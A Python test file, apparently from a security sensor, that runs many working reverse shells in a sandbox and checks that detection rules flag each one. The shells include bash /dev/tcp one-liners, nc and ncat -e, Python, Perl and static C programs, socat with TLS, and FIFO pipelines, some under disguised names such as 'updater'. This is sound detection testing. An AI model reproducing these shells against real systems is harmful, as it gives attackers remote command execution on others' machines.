"""Reverse shells of every make, by what they do: commands from outside are really run, and their answers come back."""

from __future__ import annotations

import re
import shutil
import socket
import ssl
import subprocess
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.live.peers.certificate import make_certificate
from tests.live.peers.network import SERVER, Network
from tests.live.peers.programs import Program, find
from tests.live.running import CONFIG, Line, Running, Sandbox

SETTINGS = "flows: {{pause_ms: 200}}\n"
OWN = Path(__file__).parents[2] / "rules"
PAUSE_S = 0.3  # whoever types thinks in between: the pause is what is done here
COMMANDS = 4
PYTHON = ("/usr/bin/python3", "-I", "-S", "-c")


def behavior_rules() -> str:
    """Of ours, those that know nothing but what detectors say."""
    files = [path for path in OWN.rglob("*.yml") if "category: network_behavior" in path.read_text()]
    return f"rules: {{{{paths: [{', '.join(map(str, files))}]}}}}\n"


@pytest.fixture(scope="module")
def sensor(rule_cache: str) -> Iterator[Running]:
    with Running(SETTINGS + behavior_rules(), config=CONFIG, cache=rule_cache) as running:
        yield running


@pytest.fixture(scope="module")
def network() -> Iterator[Network]:
    with Network() as made:
        yield made


@dataclass(frozen=True)
class Stage:
    """`port` is where the outside listens; `shell` may be a renamed copy."""

    network: Network
    sandbox: Sandbox
    folder: Path
    port: int
    shell: str = "/bin/sh"

    @property
    def place(self) -> tuple[str, str]:
        return SERVER, str(self.port)


def in_bash(script: str) -> Callable[[Stage], list[str]]:
    return lambda stage: [find("bash"), "-c", script.format(host=SERVER, port=stage.port, shell=stage.shell)]


def in_python(code: str) -> Callable[[Stage], list[str]]:
    streams = (
        "import os, pty, socket, subprocess, sys\n"
        "s = socket.create_connection((sys.argv[1], int(sys.argv[2])))\n"
        "for fd in range(3): os.dup2(s.fileno(), fd)\n"
    )
    return lambda stage: [*PYTHON, streams + code, *stage.place, stage.shell]


PERL = """
use Socket;
socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
connect(S, sockaddr_in($ARGV[1], inet_aton($ARGV[0]))) or die;
open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S");
exec($ARGV[2], "-i");
"""
C = """
#include <arpa/inet.h>
#include <stdlib.h>
#include <unistd.h>
int main(int argc, char **argv) {
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[2]))};
  inet_pton(AF_INET, argv[1], &to.sin_addr);
  int s = socket(AF_INET, SOCK_STREAM, 0);
  if (argc != 4 || connect(s, (struct sockaddr *)&to, sizeof(to))) return 1;
  for (int i = 0; i < 3; i++) dup2(s, i);
  execl(argv[3], argv[3], (char *)0);
  return 1;
}
"""


def static(stage: Stage) -> list[str]:
    program = stage.folder / "updater"
    subprocess.run(["cc", "-static", "-x", "c", "-o", program, "-"], input=C.encode(), check=True)
    return [str(program), *stage.place, stage.shell]


def socat(outer: str) -> Callable[[Stage], list[str]]:
    return lambda stage: [
        find("socat"), f"EXEC:'{stage.shell} -i',pty,stderr,setsid,sigint,sane", outer.format(SERVER, stage.port),
    ]  # fmt: skip


DIRECT: dict[str, Callable[[Stage], list[str]]] = {
    "bash-tcp": in_bash("bash -i >& /dev/tcp/{host}/{port} 0>&1"),
    "bash-itself": in_bash('exec 0<>/dev/tcp/{host}/{port} >&0 2>&0; while read -r line; do eval "$line"; done'),
    "bash-exec": in_bash("exec 196<>/dev/tcp/{host}/{port}; {shell} <&196 >&196 2>&196"),
    "nc-traditional": lambda stage: [find("nc.traditional"), "-e", stage.shell, *stage.place],
    "python-spawn": in_python("subprocess.call([sys.argv[3], '-i'])"),
    "perl": lambda stage: [find("perl"), "-e", PERL, *stage.place, stage.shell],
    "static": static,
}
FED: dict[str, Callable[[Stage], list[str]]] = {
    "bash-lines": in_bash("exec 5<>/dev/tcp/{host}/{port}; cat <&5 | while read -r line; do $line 2>&5 >&5; done"),
    "bash-reads": in_bash("exec 5<>/dev/tcp/{host}/{port}; while read -r line <&5; do $line 2>&5 >&5; done"),
    "ncat": lambda stage: [find("ncat"), "-e", stage.shell, *stage.place],
    "python-pty": in_python("pty.spawn(sys.argv[3])"),
    "socat": socat("TCP:{}:{}"),
    "socat-tls": socat("OPENSSL:{}:{},verify=0"),
    "fifo": in_bash("mkfifo fifo; {shell} -i <fifo 2>&1 | " + find("ncat") + " {host} {port} >fifo"),
    "fifos": in_bash("mkfifo in out; {shell} <in >out 2>&1 & " + find("ncat") + " {host} {port} >in <out; wait"),
}
SHELLS = DIRECT | FED
RENAMED = [name for name in SHELLS if name in FED or name in {"static", "nc-traditional"}]


def connected(server: socket.socket, certificate: Path | None) -> socket.socket:
    server.settimeout(20)
    peer, _ = server.accept()
    peer.settimeout(20)
    if certificate is None:
        return peer
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate)
    return context.wrap_socket(peer, server_side=True)


def command(peer: socket.socket, number: int) -> None:
    """One that no echo answers."""
    time.sleep(PAUSE_S)
    peer.sendall(f"expr 40000 + {number}\n".encode())
    said = b""
    while not re.search(rb"\b%d\b" % (40_000 + number), said):
        piece = peer.recv(4096)
        assert piece, f"it ended: {said!r}"
        said += piece


@dataclass(frozen=True)
class Used:
    """A shell in use by the outside; it lives until the test ends."""

    peer: socket.socket
    port: int
    program: Program


def use(network: Network, sandbox: Sandbox, folder: Path, name: str, shell: str) -> Used:
    """Commands are run and answered."""
    certificate = make_certificate(folder / "certificate") if name == "socat-tls" else None
    with network.outside.call(lambda: socket.create_server((SERVER, 0))) as server:
        stage = Stage(network, sandbox, folder, server.getsockname()[1], shell)
        program = network.start_inside(sandbox, SHELLS[name](stage), cwd=folder)
        try:
            peer = connected(server, certificate)
            for number in range(1, (COMMANDS if name in FED else 1) + 1):
                command(peer, number)
        except BaseException as error:
            error.add_note(program.said())
            raise
    return Used(peer, stage.port, program)


def scores(sensor: Running, box: Sandbox) -> list[int]:
    lines = sensor.of(box, category="network_behavior", Behavior="reverse_shell")
    return [int(line["Score"]) for line in lines]


def severe(rule: dict[str, str]) -> bool:
    return rule["level"] in {"high", "critical"}


def accused(sensor: Running, box: Sandbox) -> Line:
    (line, *_) = sensor.wait(
        box, category="network_behavior", Behavior="reverse_shell", Score=lambda score: score >= 60
    )
    sensor.wait(box, kind="detection", category="network_behavior", Behavior="reverse_shell", rule=severe)
    return line


def renamed(folder: Path) -> str:
    return str(shutil.copy("/bin/sh", folder / "updated"))


@pytest.mark.parametrize("name", SHELLS)
def test_a_reverse_shell_is_told(
    name: str, sensor: Running, sandbox: Sandbox, network: Network, tmp_path: Path
) -> None:
    with (used := use(network, sandbox, tmp_path, name, "/bin/sh")).peer:
        line = accused(sensor, sandbox)
    assert (line["DestinationIp"], line["DestinationPort"]) == (SERVER, used.port)


@pytest.mark.parametrize("name", RENAMED)
def test_whatever_the_shell_is_called(
    name: str, sensor: Running, sandbox: Sandbox, network: Network, tmp_path: Path
) -> None:
    with (used := use(network, sandbox, tmp_path, name, renamed(tmp_path))).peer:
        line = accused(sensor, sandbox)
    assert (line["DestinationIp"], line["DestinationPort"]) == (SERVER, used.port)


def test_nothing_is_kept_of_a_sandbox_that_ended(sensor: Running, network: Network, tmp_path: Path) -> None:
    """Steps of one that had the same name do not count for the next."""
    with sensor.sandbox("plain-again") as box, use(network, box, tmp_path, "ncat", "/bin/sh").peer:
        accused(sensor, box)
    (tmp_path / "again").mkdir()
    with sensor.sandbox("plain-again") as box, use(network, box, tmp_path / "again", "ncat", "/bin/sh").peer:
        first, *_ = sensor.wait(box, category="network_behavior", Behavior="reverse_shell")
        accused(sensor, box)
    assert first["Repetitions"] <= 1
